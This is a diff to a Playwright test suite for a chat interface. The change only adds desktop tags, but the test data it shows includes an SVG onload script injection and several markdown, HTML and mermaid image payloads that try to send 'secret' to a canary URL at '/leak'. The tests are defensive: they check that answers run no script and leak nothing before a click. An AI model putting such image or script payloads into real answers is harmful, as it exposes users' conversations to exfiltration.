@@ -30,7 +30,7 @@ const ATTACKS = [
   "```mermaid\nsequenceDiagram\nA->>B: <svg/onload=alert(1)>\n```",
 ].join("\n\n");
 
-test("R33: nothing in an answer, a question or a title runs", async ({ page }) => {
+test("R33: nothing in an answer, a question or a title runs", { tag: "@desktop" }, async ({ page }) => {
   const dialogs: string[] = [];
   page.on("dialog", (dialog) => {
     dialogs.push(dialog.message());
@@ -74,29 +74,33 @@ test.describe("R34: an answer that wants a picture shown", () => {
     await new Promise((closed) => canary.close(closed));
   });
 
-  test("tells nobody before a click, and only the picture's address after it", async ({ page }) => {
-    await openChat(page);
-    const url = `${address()}/leak?text=secret`;
-    const answer = [
-      `![the conversation](${url})`,
-      `<img src="${url}">`,
-      `[link](${url})`,
-      `$\\includegraphics{${url}}$`,
-      '```mermaid\ngraph TD\nA@{ img: "' + url + '", label: "x" }\n```',
-      "```mermaid\ngraph TD\nA[x]\nstyle A fill:url(" + url + ")\n```",
-      '```mermaid\n%%{init: {"themeCSS": "* { background: url(' + url + ') }"}}%%\ngraph TD\nB[y]\n```',
-    ].join("\n\n");
-    await ask(page, questionFor(answer));
-    await answered(page);
-    await expect(lastAnswer(page)).toContainText("graph TD");
-    await page.waitForTimeout(1_000);
-    expect(hits).toEqual([]);
-    await page.getByRole("button", { name: /Load the image from 127.0.0.1/ }).click();
-    await expect.poll(() => hits).toEqual(["/leak?text=secret no referrer"]);
-    const frame = exchanges(page).locator("iframe");
-    await expect(frame).toHaveAttribute("sandbox", "allow-scripts");
-    await expect(frame).toHaveCSS("aspect-ratio", "40 / 20");
-  });
+  test(
+    "tells nobody before a click, and only the picture's address after it",
+    { tag: "@desktop" },
+    async ({ page }) => {
+      await openChat(page);
+      const url = `${address()}/leak?text=secret`;
+      const answer = [
+        `![the conversation](${url})`,
+        `<img src="${url}">`,
+        `[link](${url})`,
+        `$\\includegraphics{${url}}$`,
+        '```mermaid\ngraph TD\nA@{ img: "' + url + '", label: "x" }\n```',
+        "```mermaid\ngraph TD\nA[x]\nstyle A fill:url(" + url + ")\n```",
+        '```mermaid\n%%{init: {"themeCSS": "* { background: url(' + url + ') }"}}%%\ngraph TD\nB[y]\n```',
+      ].join("\n\n");
+      await ask(page, questionFor(answer));
+      await answered(page);
+      await expect(lastAnswer(page)).toContainText("graph TD");
+      await page.waitForTimeout(1_000);
+      expect(hits).toEqual([]);
+      await page.getByRole("button", { name: /Load the image from 127.0.0.1/ }).click();
+      await expect.poll(() => hits).toEqual(["/leak?text=secret no referrer"]);
+      const frame = exchanges(page).locator("iframe");
+      await expect(frame).toHaveAttribute("sandbox", "allow-scripts");
+      await expect(frame).toHaveCSS("aspect-ratio", "40 / 20");
+    },
+  );
 });
 
 test("code, formulas, tables and diagrams are drawn", async ({ page }) => {
